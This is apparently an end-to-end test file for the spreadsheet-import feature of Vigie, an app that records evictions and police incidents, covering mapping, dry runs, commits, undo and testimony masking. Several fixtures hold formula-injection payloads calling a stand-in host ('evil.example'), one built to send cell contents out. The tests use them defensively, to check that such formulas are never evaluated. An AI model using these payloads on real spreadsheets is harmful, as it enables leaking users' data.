import { createHash } from 'node:crypto';
import type { ImportDetail, ImportDryRun, ImportRecord, ObservationRecord } from '@vigie/domain';
import { describe, expect, it } from 'vitest';
import {
  type ApiClient,
  createObservation,
  expectApiError,
  signedInAs,
  totalCount,
  uniqueWord,
  useApi,
} from '../support/e2e-api';
import {
  BAD_MAPPING,
  badRows,
  csvFile,
  type ImportFile,
  KOBO_HEADERS,
  koboCsv,
  koboSubmissions,
  koboXlsx,
  legacyCsv1252,
  LEGACY_HEADERS,
  legacyMapping,
  type LegacyRow,
  legacyRows,
  legacySheet,
  legacyXlsx,
  xlsxFile,
} from '../support/import-files';
import { uploadImportOk } from '../support/imports';
import { DEFAULT_DUPLICATE_RULE } from '../../apps/api/src/config/duplicate-rule-settings';
import { duplicateMatch } from '../../apps/api/src/observations/duplicates.sql';

/*
 * Imports of past data (issue 14, DESIGN §5) as a user goes through them: upload, mapping, dry
 * run and its report, commit all or nothing, the same file again, a corrected file, undo.
 */

const api = useApi({ role: 'admin' });

type Client = ApiClient;

async function ok<T>(promise: Promise<{ status: number; body: T }>, status = 200): Promise<T> {
  const response = await promise;
  expect(response.status, JSON.stringify(response.body)?.slice(0, 800)).toBe(status);
  return response.body;
}

/** Upload, mapping and dry run: the dry run's answer. */
async function checked(
  client: Client,
  file: ImportFile,
  mapping: unknown,
  fields?: Record<string, string>,
): Promise<{ detail: ImportDetail; dryRun: ImportDryRun }> {
  const detail = await uploadImportOk(client, file, fields);
  await ok(client.put(`/api/imports/${detail.id}/mapping`, mapping));
  const dryRun = await ok(client.post<ImportDryRun>(`/api/imports/${detail.id}/dry-run`));
  return { detail, dryRun };
}

/** The live observations an import wrote, by spreadsheet row. */
async function importedRecords(importId: string): Promise<Map<number, ObservationRecord>> {
  const rows = (await api.dataSource.query(
    `SELECT id FROM observations WHERE source->>'importId' = $1 AND deleted_at IS NULL`,
    [importId],
  )) as { id: string }[];
  const records = await Promise.all(
    rows.map(({ id }) =>
      ok(api.get<ObservationRecord & { source: { row: number } }>(`/api/observations/${id}`)),
    ),
  );
  return new Map(records.map((record) => [record.source.row, record]));
}

/** What an audit diff leaves out (diffRecords' defaults). */
const UNAUDITED_FIELDS = ['version', 'updatedAt', 'updatedBy', 'possibleDuplicateIds'];

async function countWhere(sql: string, params: unknown[]): Promise<number> {
  const [row] = (await api.dataSource.query(sql, params)) as { n: number }[];
  return row!.n;
}

/** The same instant, whatever the offset the API writes it with. */
const instant = (iso: string) =>
  expect.toSatisfy((value: unknown) => typeof value === 'string' && Date.parse(value) === Date.parse(iso));

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

/** A day as the legacy sheets write it (dd/mm/yyyy), from its UTC date. */
const sheetDate = (day: Date) =>
  `${String(day.getUTCDate()).padStart(2, '0')}/${String(day.getUTCMonth() + 1).padStart(2, '0')}/${day.getUTCFullYear()}`;

describe('upload', () => {
  it('reads a KoboToolbox XLSX export: format, sheet, columns, samples and a mapping that fits it', async () => {
    const word = uniqueWord('kobo');
    const submissions = koboSubmissions(word);
    const file = await koboXlsx(submissions);
    const detail = await uploadImportOk(api, file);

    expect(detail).toMatchObject({
      kind: 'observations',
      status: 'uploaded',
      format: 'kobo-xlsx',
      fileName: file.name,
      fileSha256: sha256(file.bytes),
      sizeBytes: file.bytes.length,
      encoding: null,
      delimiter: null,
      sheet: 'Observations - labels',
      sheets: ['Observations - labels'],
      columns: [...KOBO_HEADERS],
      rowCount: 3,
      mapping: null,
      summary: null,
      createdBy: api.user!.id,
    });
    expect(detail.sampleRows).toHaveLength(3);
    expect(detail.sampleRows[0]).toEqual([
      '2021-03-02T06:00:00.000+01:00',
      '2021-03-02T10:00:00.000+01:00',
      '2021-03-02T07:15:00.000+01:00',
      'Expulsion',
      '50.9513 1.8587 12 5',
      '50.9513',
      '1.8587',
      '12',
      '5',
      'crs gm',
      '35',
      '2',
      `Passage au petit matin ${word}`,
      '101',
      submissions[0]!.uuid,
      '2021-03-02T12:30:00',
      '[50.9513, 1.8587]',
      'submitted_via_web',
      'observateur1',
      '1',
    ]);
    expect(detail.suggestedMapping).toMatchObject({
      sourceIdColumn: '_uuid',
      timezone: 'Europe/Paris',
      columns: {
        start: 'ignore',
        end: 'ignore',
        'Informations générales/Date de l’expulsion': 'startedAt',
        'Informations générales/Type d’opération': 'kind',
        'Lieu/Coordonnées GPS': 'location',
        'Forces de l’ordre/Unités présentes': 'forces',
        'Bilan/Personnes expulsées': 'peopleEvicted',
        'Bilan/Interpellations': 'arrests',
        'Bilan/Remarques': 'description',
        _id: 'ignore',
        _uuid: 'sourceId',
        _submission_time: 'ignore',
        _geolocation: 'ignore',
      },
    });
    // The suggestion is a mapping the API accepts, and it reads every row of the export.
    await ok(api.put(`/api/imports/${detail.id}/mapping`, detail.suggestedMapping));
    const dryRun = await ok(api.post<ImportDryRun>(`/api/imports/${detail.id}/dry-run`));
    expect(dryRun.summary).toEqual({ create: 3, update: 0, unchanged: 0, rejected: 0 });
  });

  it('reads the same export as CSV: `;`, UTF-8, the BOM left out of the first header', async () => {
    const file = koboCsv(koboSubmissions(uniqueWord('kobo')));
    const detail = await uploadImportOk(api, file);

    expect(detail).toMatchObject({
      format: 'kobo-csv',
      encoding: 'utf-8',
      delimiter: ';',
      sheet: null,
      sheets: [],
      columns: [...KOBO_HEADERS],
      rowCount: 3,
    });
  });

  it('reads a legacy Windows-1252 CSV with `;` and its accents', async () => {
    const word = uniqueWord('legacy');
    const detail = await uploadImportOk(api, legacyCsv1252(legacyRows(word)));

    expect(detail).toMatchObject({
      format: 'csv',
      encoding: 'windows-1252',
      delimiter: ';',
      columns: [...LEGACY_HEADERS],
      rowCount: 4,
    });
    expect(detail.sampleRows[1]).toEqual([
      `L-2019-002-${word}`,
      '07/02/2019',
      '08:00',
      '50.9513, 1.8587',
      'C.R.S.',
      '25',
      '0',
      '3',
      'non',
      '',
      '4',
      `Évacuation rapide ${word}`,
    ]);
    expect(detail.suggestedMapping.columns).toEqual({
      'N° fiche': 'sourceId',
      Date: 'startedAt.date',
      Heure: 'startedAt.time',
      GPS: 'location',
      Forces: 'forces',
      'Personnes expulsées': 'peopleEvicted',
      Interpellations: 'arrests',
      Tentes: 'seizures.tent.quantity',
      'Tentes détruites': 'seizures.tent.destroyed',
      'Sacs de couchage': 'seizures.sleeping_bag.quantity',
      Couvertures: 'seizures.blanket.quantity',
      Remarques: 'description',
    });
  });

  it('reads the sheet asked for in a workbook of several, and lists them all', async () => {
    const detail = await uploadImportOk(api, await legacyXlsx(legacyRows(uniqueWord('legacy'))), {
      kind: 'observations',
      sheet: '2019',
    });

    expect(detail).toMatchObject({
      format: 'xlsx',
      sheet: '2019',
      sheets: ['Synthèse', '2019'],
      rowCount: 4,
    });
    expect(detail.sampleRows[0]?.slice(0, 5)).toEqual([
      expect.stringMatching(/^L-2019-001-legacy/),
      '05/02/2019',
      '07:30',
      '50,9513 ; 1,8587',
      'CRS, GM',
    ]);
  });

  it('gives the first 20 rows as samples of a longer file', async () => {
    const rows = Array.from({ length: 25 }, (_, index) => [`R-${index + 1}`, `ligne ${index + 1}`]);
    const detail = await uploadImportOk(api, csvFile([['Référence', 'Remarques'], ...rows], 'long.csv'));

    expect(detail.rowCount).toBe(25);
    expect(detail.sampleRows).toEqual(rows.slice(0, 20));
  });

  it('keeps a formula cell of a workbook as its cached result, never evaluated', async () => {
    const file = await xlsxFile(
      [
        [
          'Feuil1',
          [
            ['Date', 'Remarques'],
            [
              '2021-03-04T07:30:00+01:00',
              { formula: 'HYPERLINK("http://evil.example/","cliquer")', result: 'cliquer' },
            ],
            ['2021-03-05T07:30:00+01:00', { formula: 'WEBSERVICE("http://evil.example/")' }],
          ],
        ],
      ],
      'formules.xlsx',
    );
    const detail = await uploadImportOk(api, file);

    expect(detail.sampleRows).toEqual([
      ['2021-03-04T07:30:00+01:00', 'cliquer'],
      ['2021-03-05T07:30:00+01:00', ''],
    ]);
  });

  it('suggests a saved mapping again for a file with the same headers', async () => {
    const extra = uniqueWord('Saisi par ');
    const headers = [...LEGACY_HEADERS, extra];
    const base = legacyMapping() as { columns: Record<string, string> };
    const mapping = { ...base, columns: { ...base.columns, [extra]: 'ignore' } };
    const name = `Tableur historique ${extra}`;
    const saved = await ok(
      api.post<{ id: string }>('/api/import-mappings', {
        name,
        kind: 'observations',
        columns: headers,
        mapping,
      }),
      201,
    );
    const rows = legacyRows(uniqueWord('legacy')).map((row) => [
      ...LEGACY_HEADERS.map((header) => row[header]),
      'moi',
    ]);
    // The same headers in another order: the same file saved from another program.
    const file = csvFile([[...headers].reverse(), ...rows.map((row) => [...row].reverse())], 'suivi.csv');
    const detail = await uploadImportOk(api, file);

    expect(detail.suggestedMapping).toMatchObject({
      ...mapping,
      mappingId: saved.id,
      mappingName: name,
    });
    // For incidents, the mapping of observations is not offered.
    const incidents = await uploadImportOk(api, file, { kind: 'incidents' });
    expect(incidents.suggestedMapping.mappingId).toBeUndefined();
    await ok(api.delete(`/api/import-mappings/${saved.id}`));
  });
});

describe('mapping', () => {
  it('refuses a mapping that does not fit the file, each problem under its key, and keeps none', async () => {
    const detail = await uploadImportOk(api, csvFile(badRows(uniqueWord('bad')), 'bad.csv'));
    const response = await api.put(`/api/imports/${detail.id}/mapping`, {
      columns: { Date: 'startedAt', Type: 'sortOfThing', Inconnue: 'description' },
      values: { kind: { Évacuation: 'not_a_kind' } },
      timezone: 'Mars/Olympus_Mons',
      dateFormat: 'dd/MM/yyyy HH:mm',
      sourceIdColumn: 'Absente',
    });

    const body = expectApiError(response, 400, [
      'columns.Type',
      'columns.Inconnue',
      'values.kind.Évacuation',
      'timezone',
      'sourceIdColumn',
    ]);
    expect(body.errors?.['columns.Type']).toContain('sortOfThing');
    const after = await ok(api.get<ImportDetail>(`/api/imports/${detail.id}`));
    expect(after).toMatchObject({ status: 'uploaded', mapping: null });
  });

  it('refuses a dry run before any mapping (409)', async () => {
    const detail = await uploadImportOk(api, csvFile(badRows(uniqueWord('bad')), 'bad.csv'));
    expectApiError(await api.post(`/api/imports/${detail.id}/dry-run`), 409);
  });
});

describe('dry run, report and commit of a file with bad rows', () => {
  const word = uniqueWord('bad');
  let existing: ObservationRecord;
  let detail: ImportDetail;
  let dryRun: ImportDryRun;

  it('says what each row would do and why, spreadsheet row numbers kept across empty lines', async () => {
    // Already typed in Vigie: the same morning, the same place as row 2.
    existing = await createObservation(api, {
      startedAt: '2021-03-04T07:40:00+01:00',
      endedAt: '2021-03-04T09:00:00+01:00',
    });
    ({ detail, dryRun } = await checked(api, csvFile(badRows(word), 'bad.csv'), BAD_MAPPING));

    expect(detail.rowCount).toBe(6);
    expect(dryRun).toEqual({
      summary: { create: 2, update: 0, unchanged: 0, rejected: 4 },
      rows: [
        { row: 2, action: 'create', possibleDuplicateIds: [existing.id] },
        {
          row: 3,
          action: 'rejected',
          errors: {
            startedAt: 'column "Date": "31/02/2021 07:30" is not a valid date (expected dd/MM/yyyy HH:mm)',
          },
        },
        {
          row: 5,
          action: 'rejected',
          errors: {
            location: 'column "Latitude": latitude and longitude look swapped ("1.8587", "50.9513")',
          },
        },
        {
          row: 6,
          action: 'rejected',
          errors: {
            kind: 'column "Type": "Évacuation musclée" is not a known value; accepted codes: eviction, large_eviction, site_works, dispersal',
          },
        },
        {
          row: 9,
          action: 'rejected',
          errors: {
            kind: 'column "Type": "=HYPERLINK(\\"http://evil.example/\\",\\"x\\")" is not a known value; accepted codes: eviction, large_eviction, site_works, dispersal',
          },
        },
        { row: 10, action: 'create' },
      ],
    });
    const after = await ok(api.get<ImportDetail>(`/api/imports/${detail.id}`));
    expect(after).toMatchObject({ status: 'checked', summary: dryRun.summary });
  });

  it('pages the rows of one action, the total in X-Total-Count', async () => {
    const response = await api.get<{ row: number }[]>(
      `/api/imports/${detail.id}/rows?action=rejected&_start=1&_end=3`,
    );
    expect(response.status).toBe(200);
    expect(totalCount(response)).toBe(4);
    expect(response.body.map((row) => row.row)).toEqual([5, 6]);
  });

  it('gives the report as CSV, one line per problem, no cell a spreadsheet would run as a formula', async () => {
    const response = await fetch(`${api.baseUrl}/api/imports/${detail.id}/report.csv`, {
      headers: { authorization: `Bearer ${api.token}` },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="rapport-import-bad.csv"');
    const text = Buffer.from(await response.arrayBuffer()).toString('utf8');
    const accepted = 'accepted codes: eviction, large_eviction, site_works, dispersal';
    expect(text).toBe(
      '\uFEFF' +
        [
          'row,action,id,field,message,possible_duplicates',
          `2,create,,,,${existing.id}`,
          '3,rejected,,startedAt,"column ""Date"": ""31/02/2021 07:30"" is not a valid date (expected dd/MM/yyyy HH:mm)",',
          '5,rejected,,location,"column ""Latitude"": latitude and longitude look swapped (""1.8587"", ""50.9513"")",',
          `6,rejected,,kind,"column ""Type"": ""Évacuation musclée"" is not a known value; ${accepted}",`,
          `9,rejected,,kind,"column ""Type"": ""=HYPERLINK(\\""http://evil.example/\\"",\\""x\\"")"" is not a known value; ${accepted}",`,
          '10,create,,,,',
          '',
        ].join('\r\n'),
    );
  });

  it('refuses the commit while rows are rejected (409 with the counts) and writes nothing', async () => {
    const response = await api.post(`/api/imports/${detail.id}/commit`, {});

    const body = expectApiError(response, 409, ['skipRejected']);
    expect(body.current).toEqual({ summary: dryRun.summary });
    expect(
      await countWhere(`SELECT count(*)::int AS n FROM observations WHERE description LIKE $1`, [
        `%${word}%`,
      ]),
    ).toBe(0);
    expect(
      await countWhere(`SELECT count(*)::int AS n FROM import_changes WHERE import_id = $1`, [detail.id]),
    ).toBe(0);
    expect(await ok(api.get<ImportRecord>(`/api/imports/${detail.id}`))).toMatchObject({
      status: 'checked',
      result: null,
      committedAt: null,
    });
  });

  it('imports the good rows with skipRejected and records the rows left out', async () => {
    const record = await ok(
      api.post<ImportRecord>(`/api/imports/${detail.id}/commit`, { skipRejected: true }),
    );

    expect(record).toMatchObject({
      status: 'committed',
      result: { created: 2, updated: 0, unchanged: 0, skipped: 4 },
      skippedRows: [3, 5, 6, 9],
      asValidated: false,
      committedAt: expect.any(String),
    });
    const records = await importedRecords(detail.id);
    expect([...records.keys()].sort((a, b) => a - b)).toEqual([2, 10]);
    expect(records.get(2)).toMatchObject({
      status: 'submitted',
      kind: 'eviction',
      startedAt: instant('2021-03-04T07:30:00+01:00'),
      location: { type: 'Point', coordinates: [1.8587, 50.9513] },
      peopleEvicted: 30,
      source: { importId: detail.id, feedId: null, fileName: 'bad.csv', row: 2, sourceId: `B-1-${word}` },
    });
    // The formula is text, stored as typed: never evaluated.
    expect(records.get(10)).toMatchObject({
      kind: 'dispersal',
      location: { coordinates: [2.303, 51.0136] },
      description: `=HYPERLINK("http://evil.example/?d="&A1,"cliquer") ${word}`,
    });
    expectApiError(await api.post(`/api/imports/${detail.id}/commit`, { skipRejected: true }), 409);
  });
});

describe('a legacy spreadsheet imported, imported again, corrected and undone', () => {
  const word = uniqueWord('legacy');
  const rows = legacyRows(word);
  let first: ImportDetail;
  let corrected: ImportDetail;
  let records: Map<number, ObservationRecord>;

  it('imports every row as a submitted observation with its forces, seizures and source', async () => {
    const file = legacyCsv1252(rows);
    const { detail, dryRun } = await checked(api, file, legacyMapping());
    first = detail;
    expect(dryRun.summary).toEqual({ create: 4, update: 0, unchanged: 0, rejected: 0 });
    const record = await ok(api.post<ImportRecord>(`/api/imports/${first.id}/commit`, {}));
    expect(record.result).toEqual({ created: 4, updated: 0, unchanged: 0, skipped: 0 });

    records = await importedRecords(first.id);
    expect(records.get(2)).toMatchObject({
      status: 'submitted',
      kind: 'eviction',
      startedAt: instant('2019-02-05T07:30:00+01:00'),
      location: { type: 'Point', coordinates: [1.8587, 50.9513] },
      peopleEvicted: 40,
      arrests: 1,
      source: {
        importId: first.id,
        feedId: null,
        fileName: 'suivi-2019.csv',
        row: 2,
        sourceId: `L-2019-001-${word}`,
      },
    });
    const units = (row: number) =>
      records
        .get(row)!
        .forces.map((force) => force.unit)
        .sort();
    expect([units(2), units(3), units(4), units(5)]).toEqual([
      ['crs', 'gm'],
      ['crs'],
      ['crs'],
      ['crs', 'gm', 'pn'],
    ]);
    const seizures = (row: number) =>
      Object.fromEntries(records.get(row)!.seizures.map((s) => [s.item, [s.quantity, s.destroyed]]));
    expect(seizures(2)).toEqual({ tent: [12, true], sleeping_bag: [8, false] });
    expect(seizures(3)).toEqual({ tent: [3, false], blanket: [4, false] });
    // "ne sait pas" leaves `destroyed` unset, which the API stores as false.
    expect(seizures(4)).toEqual({ tent: [20, false], sleeping_bag: [15, false], blanket: [10, false] });

    // One audit event per record, tagged with the import, and one for the import with the file's digest.
    const events = (await api.dataSource.query(
      `SELECT action, entity, entity_id AS "entityId", diff, context FROM audit_events
        WHERE context->>'importId' = $1 OR (entity = 'imports' AND entity_id = $1) ORDER BY id`,
      [first.id],
    )) as {
      action: string;
      entity: string;
      entityId: string;
      diff: Record<string, unknown> | null;
      context: Record<string, unknown>;
    }[];
    // Each creation's diff is the record as the API reads it, child rows included.
    const created = (row: number) =>
      Object.fromEntries(
        Object.entries(records.get(row)!)
          .filter(([key, value]) => value !== null && !UNAUDITED_FIELDS.includes(key))
          .map(([key, value]) => [key, { before: null, after: value }]),
      );
    expect(events.filter((event) => event.entity === 'observations')).toEqual(
      [2, 3, 4, 5].map((row) => ({
        action: 'create',
        entity: 'observations',
        entityId: records.get(row)!.id,
        diff: created(row),
        context: expect.objectContaining({ importId: first.id, row }),
      })),
    );
    expect(records.get(5)!.forces).toHaveLength(3);
    expect(records.get(2)!.seizures).toHaveLength(2);
    expect(events.filter((event) => event.entity === 'imports')).toEqual([
      {
        action: 'import',
        entity: 'imports',
        entityId: first.id,
        diff: null,
        context: expect.objectContaining({
          fileSha256: sha256(file.bytes),
          fileName: 'suivi-2019.csv',
          created: 4,
        }),
      },
    ]);
  });

  it('creates nothing from the same file imported again', async () => {
    const before = await countWhere(`SELECT count(*)::int AS n FROM observations WHERE description LIKE $1`, [
      `%${word}%`,
    ]);
    const { detail, dryRun } = await checked(api, legacyCsv1252(rows), legacyMapping());
    expect(dryRun).toEqual({
      summary: { create: 0, update: 0, unchanged: 4, rejected: 0 },
      rows: [2, 3, 4, 5].map((row) => ({ row, action: 'unchanged', id: records.get(row)!.id })),
    });
    const record = await ok(api.post<ImportRecord>(`/api/imports/${detail.id}/commit`, {}));
    expect(record.result).toEqual({ created: 0, updated: 0, unchanged: 4, skipped: 0 });
    expect(
      await countWhere(`SELECT count(*)::int AS n FROM observations WHERE description LIKE $1`, [
        `%${word}%`,
      ]),
    ).toBe(before);
  });

  it('updates only the changed row from a corrected file, with a new version and its history', async () => {
    const fixed = rows.map((row) =>
      row['N° fiche'] === `L-2019-002-${word}` ? { ...row, 'Personnes expulsées': '28' } : row,
    );
    const target = records.get(3)!;
    const { detail, dryRun } = await checked(api, await legacyXlsx(fixed), legacyMapping(), {
      kind: 'observations',
      sheet: '2019',
    });
    corrected = detail;
    expect(dryRun.summary).toEqual({ create: 0, update: 1, unchanged: 3, rejected: 0 });
    expect(dryRun.rows[1]).toEqual({ row: 3, action: 'update', id: target.id });
    const record = await ok(api.post<ImportRecord>(`/api/imports/${corrected.id}/commit`, {}));
    expect(record.result).toEqual({ created: 0, updated: 1, unchanged: 3, skipped: 0 });

    const now = await ok(api.get<ObservationRecord & { source: unknown }>(`/api/observations/${target.id}`));
    expect(now).toMatchObject({
      peopleEvicted: 28,
      version: target.version + 1,
      description: target.description,
      source: {
        importId: corrected.id,
        fileName: 'suivi-expulsions-2019.xlsx',
        row: 3,
        sourceId: `L-2019-002-${word}`,
      },
    });
    const untouched = await ok(api.get<ObservationRecord>(`/api/observations/${records.get(2)!.id}`));
    expect(untouched.version).toBe(records.get(2)!.version);
    const history = await ok(
      api.get<{ action: string; diff: Record<string, unknown> }[]>(`/api/observations/${target.id}/history`),
    );
    expect(history.map((entry) => entry.action)).toEqual(['update', 'create']);
    expect(history[0]!.diff).toMatchObject({ peopleEvicted: { before: 25, after: 28 } });
  });

  it('undoes the correction: the former values come back', async () => {
    const target = records.get(3)!;
    const record = await ok(api.post<ImportRecord>(`/api/imports/${corrected.id}/undo`));
    expect(record).toMatchObject({ status: 'undone', undoneAt: expect.any(String) });
    const now = await ok(api.get<ObservationRecord & { source: unknown }>(`/api/observations/${target.id}`));
    expect(now).toMatchObject({ peopleEvicted: 25, source: { importId: first.id, row: 3 } });
  });

  it('refuses to undo an import whose record was edited since (409), and changes nothing', async () => {
    const edited = records.get(5)!;
    const current = await ok(api.get<ObservationRecord>(`/api/observations/${edited.id}`));
    await ok(api.patch(`/api/observations/${edited.id}`, { version: current.version, arrests: 2 }));
    const before = await api.dataSource.query(
      `SELECT id, version, deleted_at FROM observations WHERE source->>'importId' = $1 ORDER BY id`,
      [first.id],
    );

    const body = expectApiError(await api.post(`/api/imports/${first.id}/undo`), 409);
    // Row 3's record went through the correction and its undo: it is back as this import left it,
    // so only the record edited in Vigie stands in the way.
    expect(body.current).toEqual({ changedIds: [edited.id] });
    expect(
      await api.dataSource.query(
        `SELECT id, version, deleted_at FROM observations WHERE source->>'importId' = $1 ORDER BY id`,
        [first.id],
      ),
    ).toEqual(before);
    expect((await ok(api.get<ImportRecord>(`/api/imports/${first.id}`))).status).toBe('committed');
  });
});

describe('a KoboToolbox export imported as validated by an admin, then undone', () => {
  it('validates the records, and the undo soft-deletes what the import created', async () => {
    const submissions = koboSubmissions(uniqueWord('kobo'));
    const upload = await uploadImportOk(api, koboCsv(submissions));
    await ok(api.put(`/api/imports/${upload.id}/mapping`, upload.suggestedMapping));
    const record = await ok(
      api.post<ImportRecord>(`/api/imports/${upload.id}/commit`, { asValidated: true }),
    );
    expect(record).toMatchObject({
      asValidated: true,
      result: { created: 3, updated: 0, unchanged: 0, skipped: 0 },
    });
    const records = await importedRecords(upload.id);
    expect([...records.values()].map((r) => r.status)).toEqual(['validated', 'validated', 'validated']);
    expect(records.get(2)).toMatchObject({
      startedAt: instant('2021-03-02T07:15:00+01:00'),
      kind: 'eviction',
      location: { coordinates: [1.8587, 50.9513] },
      source: { sourceId: submissions[0]!.uuid, row: 2 },
    });
    expect(records.get(4)!.kind).toBe('large_eviction');

    await ok(api.post<ImportRecord>(`/api/imports/${upload.id}/undo`));
    const ids = [...records.values()].map((r) => r.id);
    expect(
      await countWhere(
        `SELECT count(*)::int AS n FROM observations WHERE id = ANY($1) AND deleted_at IS NOT NULL`,
        [ids],
      ),
    ).toBe(3);
    expect(
      (await api.dataSource.query(
        `SELECT action FROM audit_events WHERE entity = 'imports' AND entity_id = $1 ORDER BY id`,
        [upload.id],
      )) as unknown[],
    ).toEqual([{ action: 'import' }, { action: 'import_undo' }]);
    // Undone, the same export may be imported anew.
    const again = await uploadImportOk(api, koboCsv(submissions));
    await ok(api.put(`/api/imports/${again.id}/mapping`, again.suggestedMapping));
    const dryRun = await ok(api.post<ImportDryRun>(`/api/imports/${again.id}/dry-run`));
    expect(dryRun.summary).toEqual({ create: 3, update: 0, unchanged: 0, rejected: 0 });
  });
});

describe('incidents', () => {
  it('imports incidents with their testimony, masked in the audit trail', async () => {
    const word = uniqueWord('inc');
    const secret = uniqueWord('temoin');
    const testimony = `Il m’a frappé au visage ${secret}`;
    const file = csvFile(
      [
        ['Date', 'Type', 'GPS', 'Victimes', 'Témoignage', 'Remarques'],
        ['04/03/2021 07:45', 'Gaz lacrymogène', '50.9513, 1.8587', '3', testimony, `Gaz ${word}`],
      ],
      'incidents.csv',
    );
    const { detail, dryRun } = await checked(
      api,
      file,
      {
        columns: {
          Date: 'occurredAt',
          Type: 'type',
          GPS: 'location',
          Victimes: 'victimCount',
          Témoignage: 'testimony',
          Remarques: 'description',
        },
        dateFormat: 'dd/MM/yyyy HH:mm',
      },
      { kind: 'incidents' },
    );
    expect(dryRun.summary).toEqual({ create: 1, update: 0, unchanged: 0, rejected: 0 });
    await ok(api.post(`/api/imports/${detail.id}/commit`, {}));

    const [row] = (await api.dataSource.query(`SELECT id FROM incidents WHERE source->>'importId' = $1`, [
      detail.id,
    ])) as { id: string }[];
    const incident = await ok(api.get<Record<string, unknown>>(`/api/incidents/${row!.id}`));
    expect(incident).toMatchObject({ type: 'tear_gas', victimCount: 3, testimony, status: 'submitted' });
    const events = (await api.dataSource.query(
      `SELECT action, diff, context FROM audit_events WHERE entity = 'incidents' AND entity_id = $1`,
      [row!.id],
    )) as { action: string; diff: Record<string, unknown>; context: Record<string, unknown> }[];
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({ action: 'create', context: { importId: detail.id, row: 2 } });
    expect(events[0]!.diff).toHaveProperty('testimony');
    expect(JSON.stringify(events)).not.toContain(secret);
    expect(JSON.stringify(events[0]!.diff.testimony)).toContain('[restricted]');
  });

  it('never tells a coordinator whether a guess of a stored testimony is right', async () => {
    const headers = ['N°', 'Date', 'Type', 'GPS', 'Témoignage'];
    const mapping = {
      columns: {
        'N°': 'sourceId',
        Date: 'occurredAt',
        Type: 'type',
        GPS: 'location',
        Témoignage: 'testimony',
      },
      sourceIdColumn: 'N°',
      dateFormat: 'dd/MM/yyyy HH:mm',
    };
    const number = uniqueWord('temoignage');
    const testimony = `Récit confidentiel ${uniqueWord('secret')}`;
    const row = (text: string) => [number, '04/03/2021 07:45', 'Gaz lacrymogène', '50.9513, 1.8587', text];
    // An admin imports the testimony.
    const first = await checked(api, csvFile([headers, row(testimony)], 'a.csv'), mapping, {
      kind: 'incidents',
    });
    expect(first.dryRun.summary.create).toBe(1);
    await ok(api.post(`/api/imports/${first.detail.id}/commit`, {}));

    // A coordinator sends the same source id twice: once with the right guess, once with a wrong one.
    const coordinator = await signedInAs(api, 'coordinator');
    const verdicts = [];
    for (const guess of [testimony, `${testimony} faux`]) {
      const { dryRun } = await checked(coordinator, csvFile([headers, row(guess)], 'b.csv'), mapping, {
        kind: 'incidents',
      });
      verdicts.push(dryRun);
    }
    expect(verdicts[0]).toEqual(verdicts[1]);
    expect(verdicts[0]!.rows[0]).toMatchObject({
      action: 'rejected',
      errors: { testimony: 'your role may not overwrite the testimony of an existing incident' },
    });
  });
});

describe('a file of several batches (1,000 lines at a time), one of them all empty lines', () => {
  const word = uniqueWord('batches');
  const ROWS = 2_300;
  /**
   * Empty lines before the row of index GAP_AT: a batch is a range of 1,000 line numbers, and the
   * range of lines 1,001–2,000 then holds none (line 1 is the header).
   */
  const GAP_AT = 999;
  const GAP = 1_100;
  /** The spreadsheet line of row `index`. */
  const lineOf = (index: number) => index + 2 + (index >= GAP_AT ? GAP : 0);
  /** Row `index` (0-based) of the file: one operation a day from 1 March 2018, spread over Calais. */
  const row = (index: number): LegacyRow => {
    return {
      'N° fiche': `B-${index}-${word}`,
      Date: sheetDate(new Date(Date.UTC(2018, 2, 1 + index))),
      Heure: '07:30',
      GPS: `${(50.93 + (index % 40) * 0.001).toFixed(4)}, ${(1.8 + (index % 50) * 0.002).toFixed(4)}`,
      Forces: index % 2 === 0 ? 'CRS, GM' : 'PN',
      'Personnes expulsées': String(index % 60),
      Interpellations: '0',
      Tentes: String(index % 7),
      'Tentes détruites': 'non',
      'Sacs de couchage': '',
      Couvertures: '',
      Remarques: `Opération ${index} ${word}`,
    };
  };

  it('writes every row with its line number and events, pairs rows of different batches, and keeps the chain whole', async () => {
    const rows = Array.from({ length: ROWS }, (_, index) => row(index));
    // The last row (third batch) repeats the first (first batch): the two records are a pair.
    rows[ROWS - 1] = { ...rows[0]!, 'N° fiche': `B-copy-${word}`, Remarques: `Copie ${word}` };
    const [headers, ...lines] = legacySheet(rows);
    const empty = headers!.map(() => '');
    const sheet = [
      headers!,
      ...lines.slice(0, GAP_AT),
      ...Array.from({ length: GAP }, () => empty),
      ...lines.slice(GAP_AT),
    ];
    const { detail, dryRun } = await checked(api, csvFile(sheet, 'batches.csv'), legacyMapping());
    expect(dryRun.summary).toEqual({ create: ROWS, update: 0, unchanged: 0, rejected: 0 });
    const record = await ok(api.post<ImportRecord>(`/api/imports/${detail.id}/commit`, {}));
    expect(record.result).toEqual({ created: ROWS, updated: 0, unchanged: 0, skipped: 0 });

    const [written] = (await api.dataSource.query(
      `SELECT count(*)::int AS records,
              (SELECT count(*)::int FROM observation_forces f JOIN observations o ON o.id = f.observation_id
                WHERE o.source->>'importId' = $1) AS forces,
              (SELECT count(*)::int FROM audit_events
                WHERE context->>'importId' = $1 AND action = 'create') AS events
         FROM observations WHERE source->>'importId' = $1`,
      [detail.id],
    )) as { records: number; forces: number; events: number }[];
    const forces = rows.reduce((sum, line) => sum + (line.Forces === 'PN' ? 1 : 2), 0);
    expect(written).toEqual({ records: ROWS, forces, events: ROWS });
    // The statistics' daily facts, kept by triggers batch after batch, count what the commit wrote:
    // the same figures as the records over the file's days (one statement: one snapshot).
    const days = `BETWEEN '2018-03-01' AND '2024-12-31'`;
    const live = `observations o WHERE o.deleted_at IS NULL AND (o.started_at AT TIME ZONE 'Europe/Paris')::date ${days}`;
    const [{ facts, records: counted }] = (await api.dataSource.query(
      `SELECT json_build_object(
                'observations', (SELECT sum(observations) FROM observation_daily_facts WHERE day ${days}),
                'people', (SELECT sum(people_evicted) FROM observation_daily_facts WHERE day ${days}),
                'crs', (SELECT sum(crs_observations) FROM observation_daily_force_facts WHERE day ${days}),
                'tents', (SELECT sum(seized_tent) FROM observation_daily_seizure_facts WHERE day ${days})) AS facts,
              json_build_object(
                'observations', (SELECT count(*) FROM ${live}),
                'people', (SELECT sum(o.people_evicted) FROM ${live}),
                'crs', (SELECT count(DISTINCT f.observation_id) FROM observation_forces f, ${live}
                          AND o.id = f.observation_id AND f.unit = 'crs'),
